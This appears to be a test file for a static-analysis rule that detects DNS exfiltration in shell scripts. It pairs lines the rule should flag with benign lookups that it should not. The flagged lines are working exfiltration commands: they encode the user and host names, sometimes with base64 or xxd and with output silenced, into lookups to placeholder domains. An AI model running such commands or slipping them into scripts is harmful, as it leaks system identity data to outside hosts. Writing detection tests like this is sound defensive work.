#!/bin/sh
# ruleid: generic-shell-dns-exfil
nslookup "$(whoami).$(hostname).x.example.invalid"
# ruleid: generic-shell-dns-exfil
dig +short $(cat /etc/hostname | base64 | tr -d '=').t.example.invalid
# ok: generic-shell-dns-exfil
dig +short "$DB_HOST"
# ok: generic-shell-dns-exfil
ping -c 1 "$(hostname)"
# ruleid: generic-shell-dns-exfil
nslookup "$(whoami | xxd -p).$(hostname | xxd -p).d.example.net" >/dev/null 2>&1 || true
# ok: generic-shell-dns-exfil
nslookup "$(hostname)"
